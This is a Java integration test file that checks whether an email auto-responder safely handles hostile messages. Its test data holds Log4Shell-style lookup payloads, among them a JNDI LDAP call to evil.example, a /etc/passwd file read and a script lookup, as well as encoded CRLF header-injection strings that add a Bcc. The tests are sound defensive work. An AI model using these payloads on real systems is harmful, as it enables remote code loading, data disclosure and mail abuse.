package mailclerk.it;

import static org.assertj.core.api.Assertions.assertThat;

import jakarta.mail.Address;
import jakarta.mail.Header;
import jakarta.mail.internet.MimeMessage;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Collections;
import java.util.List;
import mailclerk.cli.Wiring;
import mailclerk.queue.Journal;
import mailclerk.respond.PollResult;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** What an attacker can put in a message, and what actually goes out: one recipient, our headers, literal text. */
class HostileMailTest {
    @TempDir
    Path data;

    static final String QUESTION = "I forgot my PACER password and cannot log in. How do I reset it?";
    static final String LOOKUPS = "${env:HOME} ${sys:user.home} ${script:javascript:java.lang.System.exit(3)} "
            + "${file:UTF-8:/etc/passwd} ${${lower:J}ndi:ldap://evil.example/x} ${date:yyyy}";

    private static byte[] message(String headers, String body) {
        return (headers + "To: helpdesk@iasb.uscourts.gov\r\nDate: Tue, 14 Oct 2025 09:12:00 -0500\r\n\r\n" + body + "\r\n")
                .getBytes(StandardCharsets.UTF_8);
    }

    @Test
    void lookupsInNameSubjectAndBodyAreNeverEvaluated() throws Exception {
        try (TestMailServer server = new TestMailServer(); Journal journal = Journal.open(data)) {
            server.deliver(message("From: \"" + LOOKUPS.replace("\"", "") + "\" <pat@firm.example>\r\n"
                    + "Subject: PACER password " + LOOKUPS + "\r\nMessage-ID: <inj@firm.example>\r\n", QUESTION + "\r\n" + LOOKUPS));
            PollResult r = Wiring.responder(server.settings(data), journal).pollOnce();
            assertThat(r.count("reply")).isEqualTo(1);
            MimeMessage reply = server.repliesReceived().get(0);
            String body = new String(reply.getInputStream().readAllBytes(), StandardCharsets.UTF_8);
            assertThat(body).doesNotContain(System.getProperty("user.home") + " ").doesNotContain("root:x:0:0")
                    .doesNotContain("evil.example");
            assertThat(reply.getSubject()).as("literally what the filer wrote").isEqualTo("Re: PACER password " + LOOKUPS);
            assertThat(Files.exists(data)).as("the JVM is still running: no script ran").isTrue();
        }
    }

    @Test
    void lineBreaksInEncodedNameOrSubjectAddNoHeaderAndNoRecipient() throws Exception {
        try (TestMailServer server = new TestMailServer(); Journal journal = Journal.open(data)) {
            // "Pat\r\nBcc: victim@else.example" and "PACER\r\nBcc: ..." as RFC 2047 encoded words
            server.deliver(message("From: =?UTF-8?B?UGF0DQpCY2M6IHZpY3RpbUBlbHNlLmV4YW1wbGU=?= <pat@firm.example>\r\n"
                    + "Subject: =?UTF-8?B?UEFDRVIgcGFzc3dvcmQNCkJjYzogdmljdGltQGVsc2UuZXhhbXBsZQ==?=\r\n"
                    + "Message-ID: <crlf@firm.example>\r\n", QUESTION));
            Wiring.responder(server.settings(data), journal).pollOnce();
            List<MimeMessage> replies = server.repliesReceived();
            assertThat(replies).hasSize(1);
            MimeMessage reply = replies.get(0);
            assertThat(reply.getAllRecipients()).extracting(Address::toString).containsExactly("pat@firm.example");
            assertThat(reply.getHeader("Bcc")).isNull();
            assertThat(reply.getHeader("Cc")).isNull();
            for (Header h : Collections.list(reply.getAllHeaders())) {
                assertThat(h.getValue()).as(h.getName()).doesNotContain("\r\nBcc", "\nBcc");
            }
            assertThat(server.greenMail.getUserManager().getUserByEmail("victim@else.example")).isNull();
        }
    }

    @Test
    void severalFromOrReplyToAddressesGetAtMostOneRecipientNeverTheCourt() throws Exception {
        try (TestMailServer server = new TestMailServer(); Journal journal = Journal.open(data)) {
            server.deliver(message("From: pat@firm.example, lee@firm.example\r\nSubject: PACER password\r\n"
                    + "Message-ID: <two-from@firm.example>\r\n", QUESTION));
            server.deliver(message("From: Pat <pat@firm.example>\r\nReply-To: all@list.example, clerk@iasb.uscourts.gov\r\n"
                    + "Subject: PACER password\r\nMessage-ID: <reply-to@firm.example>\r\n", QUESTION));
            server.deliver(message("Return-Path: <clerk@iasb.uscourts.gov>\r\nFrom: Pat <pat@firm.example>\r\n"
                    + "Subject: PACER password\r\nMessage-ID: <court-path@firm.example>\r\n", QUESTION));
            PollResult r = Wiring.responder(server.settings(data), journal).pollOnce();
            assertThat(r.outcomes()).hasSize(3);
            List<MimeMessage> replies = server.repliesReceived();
            assertThat(replies).hasSize(1); // only the Reply-To one, and to its From address
            assertThat(replies.get(0).getAllRecipients()).extracting(Address::toString).containsExactly("pat@firm.example");
            assertThat(server.folderIds("Needs-Clerk")).containsKeys("<two-from@firm.example>", "<court-path@firm.example>");
        }
    }
}
